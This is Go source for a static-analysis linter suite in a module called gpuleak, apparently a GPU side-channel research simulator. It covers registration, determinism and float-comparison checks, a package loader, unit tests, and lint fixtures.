		t.Errorf("hotalloc without a config produced findings: %v", diags)
	}
}

func TestDocCheckScope(t *testing.T) {
	if !DocCheck.Applies("gpuleak") {
		t.Error("doccheck must apply to the facade package")
	}
	if DocCheck.Applies("gpuleak/internal/attack") {
		t.Error("doccheck is scoped to the documented surface, not every internal package")
	}
	if DocCheck.Applies("gpuleak/cmd/attackd") {
		t.Error("doccheck must not apply to commands (package main has no API surface)")
	}
}
