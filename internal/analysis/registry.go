package analysis

import (
	"fmt"
	"sort"
)

// canonicalOrder fixes the presentation order of the suite: the order
// checks are listed by -list, registered as SARIF rules, and documented
// in README. Findings themselves are always position-sorted, so this
// order never affects gating — only how humans read the rule table.
var canonicalOrder = []string{
	"simtime",
	"ctxflow",
	"detmap",
	"countergroup",
	"floateq",
	"lockcheck",
	"ioctlsize",
	"obsevent",
	"errtaxonomy",
	"channelreg",
	"defensereg",
	"hotalloc",
	"doccheck",
}

var registry = map[string]*Analyzer{}

// Register adds a check to the suite. Each analyzer file registers its
// check from an init function, so DefaultAnalyzers and the metadata
// consumers (SARIF rules, -list, the waiver ledger) can never drift from
// the set of checks that actually run. Registering a duplicate or
// unknown-to-canonicalOrder name panics: both are programming errors in
// this package, not runtime conditions.
func Register(a *Analyzer) {
	if a.Name == "" || a.Run == nil {
		panic("analysis: Register needs a Name and a Run")
	}
	if _, dup := registry[a.Name]; dup {
		panic(fmt.Sprintf("analysis: duplicate analyzer %q", a.Name))
	}
	found := false
	for _, n := range canonicalOrder {
		if n == a.Name {
			found = true
			break
		}
	}
	if !found {
		panic(fmt.Sprintf("analysis: analyzer %q missing from canonicalOrder", a.Name))
	}
	if a.Severity == "" {
		a.Severity = "error"
	}
	registry[a.Name] = a
}

// DefaultAnalyzers returns every registered check in canonical order.
func DefaultAnalyzers() []*Analyzer {
	out := make([]*Analyzer, 0, len(registry))
	for _, name := range canonicalOrder {
		if a, ok := registry[name]; ok {
			out = append(out, a)
		}
	}
	// Defensive: anything registered but missing from canonicalOrder is
	// unreachable (Register panics), but keep the invariant explicit.
	if len(out) != len(registry) {
		extra := make([]string, 0)
		for n := range registry {
			extra = append(extra, n)
		}
		sort.Strings(extra)
		panic(fmt.Sprintf("analysis: registry/canonicalOrder drift: %v", extra))
	}
	return out
}

// ByName looks up one registered check.
func ByName(name string) (*Analyzer, bool) {
	a, ok := registry[name]
	return a, ok
}
