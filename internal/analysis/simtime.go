package analysis

import (
	"go/types"
)

// wallClockFuncs are the package time functions that read or wait on the
// wall clock. Referencing any of them from internal/ breaks bit-for-bit
// reproducibility: every simulated component must take sim.Time
// explicitly. Pure conversions (time.Duration arithmetic, d.Microseconds)
// stay legal.
var wallClockFuncs = map[string]bool{
	"Now":       true,
	"Sleep":     true,
	"Since":     true,
	"Until":     true,
	"Tick":      true,
	"After":     true,
	"AfterFunc": true,
	"NewTimer":  true,
	"NewTicker": true,
}

// SimTime forbids wall-clock time in internal/ packages. The paper's
// attack compares counter traces across runs; one nondeterministic
// timestamp desynchronizes every downstream delta, so simulated code must
// flow all time through the deterministic sim.Time clock. Intentional
// wall-clock use (e.g. measuring the attacker's own computation cost,
// Fig 25) carries a //gpuvet:ignore simtime justification.
var SimTime = &Analyzer{
	Name:     "simtime",
	Category: "determinism",
	Doc:      "forbid wall-clock time.Now/Sleep/Since/Tick/... in internal/ packages; use sim.Time",
	Applies:  isInternalPath,
	Run:      runSimTime,
}

func runSimTime(p *Pass) {
	for id, obj := range p.Pkg.Info.Uses {
		fn, ok := obj.(*types.Func)
		if !ok || fn.Pkg() == nil || fn.Pkg().Path() != "time" {
			continue
		}
		if wallClockFuncs[fn.Name()] {
			p.Reportf(id.Pos(), "time.%s reads the wall clock: internal/ code must use the deterministic sim.Time clock (//gpuvet:ignore simtime -- <why> if intentional)", fn.Name())
		}
	}
}

func init() { Register(SimTime) }
