package analysis

import (
	"go/ast"
	"go/token"
	"go/types"
	"strings"
)

// ObsEvent enforces the telemetry layer's registration discipline. The
// deterministic event stream is only auditable if every event name is a
// package-level constant registered through obs.NewName — so the full
// vocabulary of a binary is readable from its var blocks — and only
// deterministic if timestamps never derive from the wall clock. Four
// shapes violate that:
//
//  1. obs.Name("...") conversions mint unregistered names, bypassing the
//     duplicate check;
//  2. obs.NewName calls inside function bodies register names lazily, so
//     the vocabulary (and the duplicate panic) depends on execution path;
//  3. Emit/Start with a name expression that is not a package-level
//     variable cannot be traced back to a registration site;
//  4. sim.Time conversions of wall-clock (package time) values in the
//     timestamp argument smuggle nondeterminism into the stream;
//  5. inline string literals naming metrics at Add/Observe/
//     ObserveExemplar/Counter call sites scatter the metric namespace
//     across the code — names must come from declared constants (or
//     functions over them), one greppable block per package.
var ObsEvent = &Analyzer{
	Name:     "obsevent",
	Category: "determinism",
	Doc:      "obs event names must be package-level obs.NewName registrations; Emit/Start timestamps must not derive from the wall clock; metric names must be declared constants, not inline literals",
	Applies: func(pkgPath string) bool {
		// The obs package itself converts names when parsing streams.
		return isInternalPath(pkgPath) && !strings.HasSuffix(pkgPath, "internal/obs")
	},
	Run: runObsEvent,
}

const obsPkgSuffix = "internal/obs"

func isObsPkg(pkg *types.Package) bool {
	return pkg != nil && strings.HasSuffix(pkg.Path(), obsPkgSuffix)
}

func runObsEvent(p *Pass) {
	for _, file := range p.Pkg.Files {
		// Function-body ranges: obs.NewName is only legal outside them.
		var bodies []ast.Node
		ast.Inspect(file, func(n ast.Node) bool {
			switch fn := n.(type) {
			case *ast.FuncDecl:
				if fn.Body != nil {
					bodies = append(bodies, fn.Body)
				}
			case *ast.FuncLit:
				bodies = append(bodies, fn.Body)
			}
			return true
		})
		inBody := func(n ast.Node) bool {
			for _, b := range bodies {
				if b.Pos() <= n.Pos() && n.End() <= b.End() {
					return true
				}
			}
			return false
		}

		ast.Inspect(file, func(n ast.Node) bool {
			call, ok := n.(*ast.CallExpr)
			if !ok {
				return true
			}
			if tv, ok := p.Pkg.Info.Types[call.Fun]; ok && tv.IsType() {
				// A conversion: is the target type obs.Name?
				if named, ok := tv.Type.(*types.Named); ok &&
					named.Obj().Name() == "Name" && isObsPkg(named.Obj().Pkg()) {
					p.Reportf(call.Pos(), "obs.Name conversion bypasses the name registry: declare the event with obs.NewName in a package-level var block")
				}
				return true
			}
			switch fn := calledFunc(p, call); {
			case fn == nil:
			case fn.Name() == "NewName" && isObsPkg(fn.Pkg()):
				if inBody(call) {
					p.Reportf(call.Pos(), "obs.NewName inside a function body registers event names lazily: move the registration to a package-level var block")
				}
			case (fn.Name() == "Emit" || fn.Name() == "Start") && isObsPkg(fn.Pkg()) && fn.Type().(*types.Signature).Recv() != nil:
				checkEmitCall(p, call, fn.Name())
			case isMetricsMethod(fn):
				checkMetricName(p, call, fn.Name())
			}
			return true
		})
	}
}

// checkEmitCall validates one Tracer.Emit/Start call site: the name
// argument (index 1) must resolve to a package-level variable, and the
// timestamp argument (index 0) must not convert a package-time value.
func checkEmitCall(p *Pass, call *ast.CallExpr, what string) {
	if len(call.Args) < 2 {
		return
	}
	var nameID *ast.Ident
	switch e := ast.Unparen(call.Args[1]).(type) {
	case *ast.Ident:
		nameID = e
	case *ast.SelectorExpr:
		nameID = e.Sel
	}
	ok := false
	if nameID != nil {
		if v, isVar := p.Pkg.Info.Uses[nameID].(*types.Var); isVar &&
			v.Pkg() != nil && v.Parent() == v.Pkg().Scope() {
			ok = true
		}
	}
	if !ok {
		p.Reportf(call.Args[1].Pos(), "%s name must be a package-level obs.NewName registration, not an inline expression", what)
	}

	// The timestamp must stay inside the sim.Time domain: any value of a
	// package-time type (time.Time, time.Duration) feeding into it
	// injects wall-clock data the deterministic stream must never carry.
	reported := false
	ast.Inspect(call.Args[0], func(n ast.Node) bool {
		if reported {
			return false
		}
		id, isIdent := n.(*ast.Ident)
		if !isIdent {
			return true
		}
		t := p.TypeOf(id)
		if t == nil {
			return true
		}
		if named, isNamed := t.(*types.Named); isNamed &&
			named.Obj().Pkg() != nil && named.Obj().Pkg().Path() == "time" {
			p.Reportf(id.Pos(), "%s timestamp derives from a package-time value: derive event times from sim.Time, never the wall clock", what)
			reported = true
			return false
		}
		return true
	})
}

// isMetricsMethod reports whether fn is one of the obs.Metrics recording
// methods whose first argument names a metric.
func isMetricsMethod(fn *types.Func) bool {
	if fn == nil || !isObsPkg(fn.Pkg()) {
		return false
	}
	switch fn.Name() {
	case "Add", "Observe", "ObserveExemplar", "Counter":
	default:
		return false
	}
	sig, ok := fn.Type().(*types.Signature)
	if !ok || sig.Recv() == nil {
		return false
	}
	recv := sig.Recv().Type()
	if ptr, isPtr := recv.(*types.Pointer); isPtr {
		recv = ptr.Elem()
	}
	named, isNamed := recv.(*types.Named)
	return isNamed && named.Obj().Name() == "Metrics"
}

// checkMetricName validates one Metrics.Add/Observe/ObserveExemplar/
// Counter call site: the name argument (index 0) must contain no string
// literal. Declared constants, selectors, and helper functions that map
// onto constants all pass; "pkg.thing" and "pkg."+kind do not.
func checkMetricName(p *Pass, call *ast.CallExpr, what string) {
	if len(call.Args) < 1 {
		return
	}
	reported := false
	ast.Inspect(call.Args[0], func(n ast.Node) bool {
		if reported {
			return false
		}
		if lit, isLit := n.(*ast.BasicLit); isLit && lit.Kind == token.STRING {
			p.Reportf(lit.Pos(), "%s metric name contains an inline string literal: declare the name as a package-level constant so the metric namespace stays in one block", what)
			reported = true
			return false
		}
		return true
	})
}

func init() { Register(ObsEvent) }
