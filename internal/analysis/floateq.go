package analysis

import (
	"go/ast"
	"go/token"
	"go/types"
)

// floatEqPaths are the packages holding the classifier's distance math.
// Centroid distances, weights and thresholds are accumulated floats;
// comparing them with ==/!= silently depends on rounding and breaks the
// nearest-centroid decision the whole attack rests on.
var floatEqPaths = map[string]bool{
	"gpuleak/internal/stats":  true,
	"gpuleak/internal/attack": true,
}

// FloatEq forbids ==/!= between floating-point operands (including
// arrays/structs with float components) in the distance-math packages.
var FloatEq = &Analyzer{
	Name:     "floateq",
	Category: "hygiene",
	Doc:      "forbid ==/!= on float-typed operands in internal/stats and internal/attack",
	Applies:  func(path string) bool { return floatEqPaths[path] },
	Run:      runFloatEq,
}

func runFloatEq(p *Pass) {
	for _, f := range p.Pkg.Files {
		ast.Inspect(f, func(n ast.Node) bool {
			be, ok := n.(*ast.BinaryExpr)
			if !ok || (be.Op != token.EQL && be.Op != token.NEQ) {
				return true
			}
			if containsFloat(p.TypeOf(be.X)) || containsFloat(p.TypeOf(be.Y)) {
				p.Reportf(be.OpPos, "%s on floating-point operands: compare with a tolerance or an ordering (e.g. <=) instead", be.Op)
			}
			return true
		})
	}
}

// containsFloat reports whether comparing two values of type t compares
// floating-point representations somewhere.
func containsFloat(t types.Type) bool {
	switch u := t.(type) {
	case nil:
		return false
	case *types.Basic:
		return u.Info()&(types.IsFloat|types.IsComplex) != 0
	case *types.Array:
		return containsFloat(u.Elem())
	case *types.Struct:
		for i := 0; i < u.NumFields(); i++ {
			if containsFloat(u.Field(i).Type()) {
				return true
			}
		}
		return false
	case *types.Named:
		return containsFloat(u.Underlying())
	case *types.Alias:
		return containsFloat(types.Unalias(u))
	default:
		return false
	}
}

func init() { Register(FloatEq) }
