package analysis

import (
	"go/ast"
	"go/token"
	"go/types"
	"strings"
)

// ChannelReg enforces the side-channel plane's registration discipline.
// The channel registry is only trustworthy if it is the one source of
// Channel values: every implementation registers itself from its
// package's init function, and every consumer resolves channels at run
// time through channel.Get. Two shapes break that:
//
//  1. channel.Register calls inside ordinary functions register lazily,
//     so the advertised channel set (and the duplicate-name panic)
//     depends on execution path instead of the import graph;
//  2. constructing a Channel implementation outside an init function
//     bypasses the registry entirely — callers would hold channels the
//     facade, the HTTP layer and Channels() cannot see.
//
// The channel package itself is exempt (its tests exercise the registry
// with throwaway implementations).
var ChannelReg = &Analyzer{
	Name:     "channelreg",
	Category: "hygiene",
	Doc:      "side channels must be registered via channel.Register from init and constructed only there; consumers resolve them through channel.Get",
	Applies: func(pkgPath string) bool {
		return !strings.HasSuffix(pkgPath, "internal/channel")
	},
	Run: runChannelReg,
}

const channelPkgSuffix = "internal/channel"

func isChannelPkg(pkg *types.Package) bool {
	return pkg != nil && strings.HasSuffix(pkg.Path(), channelPkgSuffix)
}

// channelIface resolves the channel.Channel interface type through the
// package's imports; nil when the package never imports the channel
// plane (nothing to check then — implementing the interface without
// importing it is impossible, its methods mention channel.Probe).
func channelIface(p *Pass) *types.Interface {
	for _, imp := range p.Pkg.Types.Imports() {
		if !strings.HasSuffix(imp.Path(), channelPkgSuffix) {
			continue
		}
		obj := imp.Scope().Lookup("Channel")
		if obj == nil {
			continue
		}
		if iface, ok := obj.Type().Underlying().(*types.Interface); ok {
			return iface
		}
	}
	return nil
}

func runChannelReg(p *Pass) {
	iface := channelIface(p)
	for _, file := range p.Pkg.Files {
		// Package initialization is the only place registration (and hence
		// construction) of a channel is legitimate: init function bodies
		// and package-level var initializers, which run at the same time.
		var initRanges []ast.Node
		for _, decl := range file.Decls {
			switch d := decl.(type) {
			case *ast.FuncDecl:
				if d.Name.Name == "init" && d.Recv == nil && d.Body != nil {
					initRanges = append(initRanges, d.Body)
				}
			case *ast.GenDecl:
				if d.Tok == token.VAR {
					initRanges = append(initRanges, d)
				}
			}
		}
		// Function literals defer execution past initialization even when
		// declared inside an init range, so their bodies don't count.
		var litBodies []ast.Node
		ast.Inspect(file, func(n ast.Node) bool {
			if fl, ok := n.(*ast.FuncLit); ok && fl.Body != nil {
				litBodies = append(litBodies, fl.Body)
			}
			return true
		})
		inInit := func(n ast.Node) bool {
			for _, b := range litBodies {
				if b.Pos() <= n.Pos() && n.End() <= b.End() {
					return false
				}
			}
			for _, b := range initRanges {
				if b.Pos() <= n.Pos() && n.End() <= b.End() {
					return true
				}
			}
			return false
		}

		ast.Inspect(file, func(n ast.Node) bool {
			switch e := n.(type) {
			case *ast.CallExpr:
				if fn := calledFunc(p, e); fn != nil &&
					fn.Name() == "Register" && isChannelPkg(fn.Pkg()) && !inInit(e) {
					p.Reportf(e.Pos(), "channel.Register outside an init function registers channels lazily: register from the implementing package's init")
				}
			case *ast.CompositeLit:
				if iface == nil || inInit(e) {
					return true
				}
				t := p.TypeOf(e)
				if t == nil {
					return true
				}
				if types.Implements(t, iface) || types.Implements(types.NewPointer(t), iface) {
					p.Reportf(e.Pos(), "constructing a channel.Channel implementation outside init bypasses the registry: resolve channels with channel.Get")
				}
			}
			return true
		})
	}
}

func init() { Register(ChannelReg) }
