package analysis

import (
	"fmt"
	"go/ast"
	"go/importer"
	"go/parser"
	"go/token"
	"go/types"
	"os"
	"path/filepath"
	"regexp"
	"sort"
	"strings"
)

// Loader parses and type-checks packages of the enclosing module using
// only the standard library: module-internal imports resolve against the
// module tree, everything else through the stdlib source importer (the
// build environment is offline, so export data may be absent).
type Loader struct {
	// Fset is shared by every file the loader touches.
	Fset *token.FileSet
	// ModuleRoot is the directory containing go.mod.
	ModuleRoot string
	// ModulePath is the module path declared in go.mod.
	ModulePath string
	// IncludeTests merges in-package _test.go files into analyzed
	// packages. External test packages (package foo_test) are skipped:
	// they cannot be merged into the package under test.
	IncludeTests bool

	std     types.Importer
	pkgs    map[string]*Package // import path -> loaded package (no tests)
	loading map[string]bool     // cycle guard
}

// NewLoader locates the enclosing module starting from dir.
func NewLoader(dir string) (*Loader, error) {
	abs, err := filepath.Abs(dir)
	if err != nil {
		return nil, err
	}
	root, err := findModuleRoot(abs)
	if err != nil {
		return nil, err
	}
	modPath, err := modulePath(filepath.Join(root, "go.mod"))
	if err != nil {
		return nil, err
	}
	l := &Loader{
		Fset:       token.NewFileSet(),
		ModuleRoot: root,
		ModulePath: modPath,
		pkgs:       map[string]*Package{},
		loading:    map[string]bool{},
	}
	l.std = importer.ForCompiler(l.Fset, "source", nil)
	return l, nil
}

func findModuleRoot(dir string) (string, error) {
	for d := dir; ; {
		if _, err := os.Stat(filepath.Join(d, "go.mod")); err == nil {
			return d, nil
		}
		parent := filepath.Dir(d)
		if parent == d {
			return "", fmt.Errorf("analysis: no go.mod found above %s", dir)
		}
		d = parent
	}
}

var moduleRe = regexp.MustCompile(`(?m)^module\s+(\S+)`)

func modulePath(gomod string) (string, error) {
	b, err := os.ReadFile(gomod)
	if err != nil {
		return "", err
	}
	m := moduleRe.FindSubmatch(b)
	if m == nil {
		return "", fmt.Errorf("analysis: no module directive in %s", gomod)
	}
	return string(m[1]), nil
}

// Load resolves package patterns relative to the module root. A pattern
// ending in "/..." walks the subtree; anything else names one directory.
func (l *Loader) Load(patterns ...string) ([]*Package, error) {
	seen := map[string]bool{}
	var dirs []string
	add := func(d string) {
		if !seen[d] {
			seen[d] = true
			dirs = append(dirs, d)
		}
	}
	for _, pat := range patterns {
		if rest, ok := strings.CutSuffix(pat, "..."); ok {
			base := strings.TrimSuffix(rest, "/")
			if base == "" || base == "." {
				base = l.ModuleRoot
			} else {
				base = filepath.Join(l.ModuleRoot, base)
			}
			if err := walkPackageDirs(base, add); err != nil {
				return nil, err
			}
			continue
		}
		add(filepath.Join(l.ModuleRoot, pat))
	}
	if len(dirs) == 0 {
		return nil, fmt.Errorf("analysis: no packages matched %v", patterns)
	}
	sort.Strings(dirs)
	var out []*Package
	for _, dir := range dirs {
		path, err := l.pathForDir(dir)
		if err != nil {
			return nil, err
		}
		pkg, err := l.load(dir, path, l.IncludeTests)
		if err != nil {
			return nil, err
		}
		out = append(out, pkg)
	}
	return out, nil
}

// LoadDir loads a single directory as a package with an explicit import
// path, bypassing module path mapping. Fixture tests use it to place
// snippets under paths a scoped analyzer applies to.
func (l *Loader) LoadDir(dir, pkgPath string) (*Package, error) {
	abs, err := filepath.Abs(dir)
	if err != nil {
		return nil, err
	}
	return l.load(abs, pkgPath, l.IncludeTests)
}

// walkPackageDirs visits every directory under base holding at least one
// non-test .go file, skipping testdata, hidden and underscore dirs.
func walkPackageDirs(base string, visit func(string)) error {
	return filepath.WalkDir(base, func(path string, d os.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if d.IsDir() {
			name := d.Name()
			if path != base && (name == "testdata" || strings.HasPrefix(name, ".") || strings.HasPrefix(name, "_")) {
				return filepath.SkipDir
			}
			gos, err := filepath.Glob(filepath.Join(path, "*.go"))
			if err != nil {
				return err
			}
			for _, g := range gos {
				if !strings.HasSuffix(g, "_test.go") {
					visit(path)
					break
				}
			}
		}
		return nil
	})
}

func (l *Loader) pathForDir(dir string) (string, error) {
	rel, err := filepath.Rel(l.ModuleRoot, dir)
	if err != nil {
		return "", err
	}
	if rel == "." {
		return l.ModulePath, nil
	}
	if strings.HasPrefix(rel, "..") {
		return "", fmt.Errorf("analysis: %s is outside module %s", dir, l.ModuleRoot)
	}
	return l.ModulePath + "/" + filepath.ToSlash(rel), nil
}

// load parses and type-checks one package directory. The no-tests variant
// is memoized because it doubles as the import target for dependents; the
// test-augmented variant is built fresh per call.
func (l *Loader) load(dir, path string, withTests bool) (*Package, error) {
	if !withTests {
		if p, ok := l.pkgs[path]; ok {
			return p, nil
		}
	}
	if l.loading[path] {
		return nil, fmt.Errorf("analysis: import cycle through %s", path)
	}
	l.loading[path] = true
	defer delete(l.loading, path)
	files, err := l.parseDir(dir, withTests)
	if err != nil {
		return nil, err
	}
	if len(files) == 0 {
		return nil, fmt.Errorf("analysis: no Go files in %s", dir)
	}
	info := &types.Info{
		Types:      map[ast.Expr]types.TypeAndValue{},
		Defs:       map[*ast.Ident]types.Object{},
		Uses:       map[*ast.Ident]types.Object{},
		Selections: map[*ast.SelectorExpr]*types.Selection{},
	}
	var typeErrs []error
	conf := types.Config{
		Importer: importerFunc(l.importPkg),
		Error:    func(err error) { typeErrs = append(typeErrs, err) },
	}
	tpkg, _ := conf.Check(path, l.Fset, files, info)
	if len(typeErrs) > 0 {
		return nil, fmt.Errorf("analysis: type-checking %s: %w", path, typeErrs[0])
	}
	pkg := &Package{
		Path:    path,
		Dir:     dir,
		Fset:    l.Fset,
		Files:   files,
		Types:   tpkg,
		Info:    info,
		ignores: buildIgnoreIndex(l.Fset, files),
	}
	if !withTests {
		l.pkgs[path] = pkg
	}
	return pkg, nil
}

// parseDir parses the directory's .go files. With tests, in-package test
// files are merged and external test-package files dropped.
func (l *Loader) parseDir(dir string, withTests bool) ([]*ast.File, error) {
	entries, err := os.ReadDir(dir)
	if err != nil {
		return nil, err
	}
	var files []*ast.File
	for _, e := range entries {
		name := e.Name()
		if e.IsDir() || !strings.HasSuffix(name, ".go") || strings.HasPrefix(name, ".") || strings.HasPrefix(name, "_") {
			continue
		}
		if !withTests && strings.HasSuffix(name, "_test.go") {
			continue
		}
		f, err := parser.ParseFile(l.Fset, filepath.Join(dir, name), nil, parser.ParseComments|parser.SkipObjectResolution)
		if err != nil {
			return nil, err
		}
		files = append(files, f)
	}
	if withTests {
		files = dropExternalTestFiles(l.Fset, files)
	}
	return files, nil
}

// dropExternalTestFiles removes files whose package clause does not match
// the non-test package name (package foo_test files).
func dropExternalTestFiles(fset *token.FileSet, files []*ast.File) []*ast.File {
	base := ""
	for _, f := range files {
		if !strings.HasSuffix(fset.Position(f.Pos()).Filename, "_test.go") {
			base = f.Name.Name
			break
		}
	}
	if base == "" {
		return files
	}
	out := files[:0]
	for _, f := range files {
		if f.Name.Name == base {
			out = append(out, f)
		}
	}
	return out
}

// importPkg resolves an import path: module-internal packages load from
// the module tree (never with test files), the rest from stdlib source.
func (l *Loader) importPkg(path string) (*types.Package, error) {
	if path == "unsafe" {
		return types.Unsafe, nil
	}
	if path == l.ModulePath || strings.HasPrefix(path, l.ModulePath+"/") {
		rel := strings.TrimPrefix(strings.TrimPrefix(path, l.ModulePath), "/")
		pkg, err := l.load(filepath.Join(l.ModuleRoot, filepath.FromSlash(rel)), path, false)
		if err != nil {
			return nil, err
		}
		return pkg.Types, nil
	}
	return l.std.Import(path)
}

type importerFunc func(string) (*types.Package, error)

func (f importerFunc) Import(path string) (*types.Package, error) { return f(path) }
