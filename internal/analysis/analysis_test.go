package analysis

import (
	"go/ast"
	"go/parser"
	"go/token"
	"path/filepath"
	"strings"
	"testing"
)

func TestIgnoreIndex(t *testing.T) {
	src := `package p

func a() {
	_ = 1 //gpuvet:ignore simtime -- trailing, one check
	//gpuvet:ignore floateq,lockcheck -- standalone, two checks
	_ = 2
	//gpuvet:ignore
	_ = 3
	_ = 4
}
`
	fset := token.NewFileSet()
	f, err := parser.ParseFile(fset, "ign.go", src, parser.ParseComments|parser.SkipObjectResolution)
	if err != nil {
		t.Fatal(err)
	}
	pkg := &Package{ignores: buildIgnoreIndex(fset, []*ast.File{f})}
	cases := []struct {
		line  int
		check string
		want  bool
	}{
		{4, "simtime", true},
		{4, "floateq", false},
		{6, "floateq", true},
		{6, "lockcheck", true},
		{6, "simtime", false},
		{8, "simtime", true}, // bare ignore silences everything
		{8, "anything", true},
		{9, "simtime", false},
	}
	for _, c := range cases {
		got := pkg.suppressed(token.Position{Filename: "ign.go", Line: c.line}, c.check)
		if got != c.want {
			t.Errorf("line %d check %s: suppressed=%v, want %v", c.line, c.check, got, c.want)
		}
	}
}

func TestDiagnosticString(t *testing.T) {
	d := Diagnostic{
		Pos:     token.Position{Filename: "x.go", Line: 3, Column: 7},
		Check:   "simtime",
		Message: "no wall clocks",
	}
	want := "x.go:3:7: [simtime] no wall clocks"
	if d.String() != want {
		t.Errorf("String() = %q, want %q", d.String(), want)
	}
}

func TestLoaderModuleDiscovery(t *testing.T) {
	l, err := NewLoader(".")
	if err != nil {
		t.Fatal(err)
	}
	if l.ModulePath != "gpuleak" {
		t.Errorf("module path = %q, want gpuleak", l.ModulePath)
	}
	if !strings.HasSuffix(l.ModuleRoot, "repo") && l.ModuleRoot == "" {
		t.Errorf("module root not found: %q", l.ModuleRoot)
	}
}

func TestLoadUnknownPattern(t *testing.T) {
	l, err := NewLoader(".")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := l.Load("no/such/dir/..."); err == nil {
		t.Error("expected an error for a nonexistent pattern")
	}
}

// TestRepoClean is the acceptance gate as a unit test: the production
// tree (non-test files) must carry zero unwaived findings under the full
// driver config — all registered analyzers, the committed hot-path
// allocation budget, the committed (empty) baseline, and an exactly
// tallied waiver ledger — so a plain `go test` catches invariant
// regressions even when ci.sh is skipped.
func TestRepoClean(t *testing.T) {
	l, err := NewLoader(".")
	if err != nil {
		t.Fatal(err)
	}
	pkgs, err := l.Load("./...")
	if err != nil {
		t.Fatalf("loading module: %v", err)
	}
	if len(pkgs) < 10 {
		t.Fatalf("suspiciously few packages loaded: %d", len(pkgs))
	}

	budget, err := LoadHotAllocBudget(filepath.Join(l.ModuleRoot, "gpuvet-hotalloc.json"))
	if err != nil {
		t.Fatalf("loading committed hotalloc budget: %v", err)
	}
	cfg := &Config{ModuleRoot: l.ModuleRoot, HotAlloc: budget}
	diags := RunConfig(cfg, pkgs, DefaultAnalyzers())

	baseline, err := LoadBaseline(filepath.Join(l.ModuleRoot, "gpuvet-baseline.json"))
	if err != nil {
		t.Fatalf("loading committed baseline: %v", err)
	}
	if len(baseline.Findings) != 0 {
		t.Errorf("committed baseline should be empty (the tree is clean); it lists %d findings", len(baseline.Findings))
	}
	diags, absorbed := baseline.Filter(l.ModuleRoot, diags)
	if len(absorbed) != 0 {
		t.Errorf("empty baseline absorbed %d findings", len(absorbed))
	}
	for _, d := range diags {
		t.Errorf("%s", d)
	}

	ledger, err := LoadWaiverLedger(filepath.Join(l.ModuleRoot, "gpuvet-waivers.json"))
	if err != nil {
		t.Fatalf("loading committed waiver ledger: %v", err)
	}
	counts, err := CountWaivers(l.ModuleRoot)
	if err != nil {
		t.Fatalf("counting //gpuvet:ignore directives: %v", err)
	}
	for _, problem := range ledger.Check(counts) {
		t.Errorf("waiver ledger: %s", problem)
	}
}
