// Package crgood follows the channel-plane registration discipline: the
// implementation is constructed at package initialization (package-level
// var and init body), registered from init, and consumers resolve
// channels through the registry.
package crgood

import (
	"gpuleak/internal/channel"
	"gpuleak/internal/fault"
	"gpuleak/internal/sim"
	"gpuleak/internal/trace"
	"gpuleak/internal/victim"
)

// vchan is a minimal channel implementation.
type vchan struct{ name string }

func (c vchan) Name() string { return c.name }
func (c vchan) Dims() int    { return 2 }
func (c vchan) Open(sess *victim.Session) (channel.Probe, error) {
	return probe{}, nil
}
func (c vchan) Taxonomy() fault.Taxonomy { return fault.Taxonomy{} }
func (c vchan) Interval() sim.Time       { return sim.Millisecond }

// probe fills nothing; it exists to satisfy channel.Probe.
type probe struct{}

func (probe) ReserveSelected(t sim.Time) error { return nil }
func (probe) ReadSelected(t sim.Time) (trace.Raw, error) {
	return trace.Raw{}, nil
}

// Package-level construction runs at initialization: allowed.
var def = vchan{name: "crgood.def"}

func init() {
	channel.Register(def)
	// Constructing inline at the registration site is the canonical shape.
	channel.Register(vchan{name: "crgood.alt"})
}

// Resolve goes through the registry, never constructing directly.
func Resolve(name string) (channel.Channel, error) {
	return channel.Get(name)
}
