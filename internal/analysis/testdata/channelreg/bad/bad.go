// Package crbad seeds channelreg violations: lazy registration from
// ordinary functions, direct construction of channel implementations
// outside package initialization, and registration deferred into a
// function literal. Lines marked WANT must be reported.
package crbad

import (
	"gpuleak/internal/channel"
	"gpuleak/internal/fault"
	"gpuleak/internal/sim"
	"gpuleak/internal/trace"
	"gpuleak/internal/victim"
)

// vchan implements channel.Channel with value receivers.
type vchan struct{ name string }

func (c vchan) Name() string { return c.name }
func (c vchan) Dims() int    { return 2 }
func (c vchan) Open(sess *victim.Session) (channel.Probe, error) {
	return probe{}, nil
}
func (c vchan) Taxonomy() fault.Taxonomy { return fault.Taxonomy{} }
func (c vchan) Interval() sim.Time       { return sim.Millisecond }

// pchan implements channel.Channel with pointer receivers.
type pchan struct{ n int }

func (c *pchan) Name() string { return "crbad.p" }
func (c *pchan) Dims() int    { return 1 }
func (c *pchan) Open(sess *victim.Session) (channel.Probe, error) {
	return probe{}, nil
}
func (c *pchan) Taxonomy() fault.Taxonomy { return fault.Taxonomy{} }
func (c *pchan) Interval() sim.Time       { return sim.Millisecond }

type probe struct{}

func (probe) ReserveSelected(t sim.Time) error { return nil }
func (probe) ReadSelected(t sim.Time) (trace.Raw, error) {
	return trace.Raw{}, nil
}

// Package-level construction is initialization-time: allowed.
var defd = vchan{name: "crbad.def"}

func init() {
	channel.Register(defd)
}

// Lazy registers on first call, so the advertised channel set depends on
// the execution path instead of the import graph.
func Lazy(name string) channel.Channel {
	c := vchan{name: name} // WANT
	channel.Register(c)    // WANT
	return c
}

// Direct hands out a channel the registry has never seen.
func Direct() channel.Channel {
	return &pchan{n: 1} // WANT
}

// lazyhook defers registration into a function literal: the var runs at
// initialization, the body does not.
var lazyhook = func() {
	channel.Register(defd) // WANT
}
