package lckgood

import (
	"math/rand"
	"sync"
)

// pool holds lock-disciplined and task-local randomness patterns only.
type pool struct {
	mu  sync.Mutex
	rng *rand.Rand

	seed int64 // separated by a blank line: not guarded by mu
}

// Draw locks around the shared generator.
func (p *pool) Draw() float64 {
	p.mu.Lock()
	defer p.mu.Unlock()
	return p.rng.Float64()
}

// runTask derives a task-local generator from the unguarded base seed —
// the deterministic pattern the real pools use (sim.TaskSeed): no shared
// stream, no lock, no scheduling leak.
func (p *pool) runTask(results []float64, i int) {
	local := rand.New(rand.NewSource(p.seed + int64(i+1)*0x9e3779b9))
	results[i] = local.Float64()
}

// drawLocked is a helper invoked with mu already held.
func (p *pool) drawLocked() float64 {
	return p.rng.Float64() //gpuvet:ignore lockcheck -- held by caller
}
