// Package lckgood holds only lock-disciplined access patterns.
package lckgood

import "sync"

type counter struct {
	mu sync.Mutex
	n  int

	hits int // separated by a blank line: not guarded by mu
}

// Bump locks before touching n.
func (c *counter) Bump() {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.n++
}

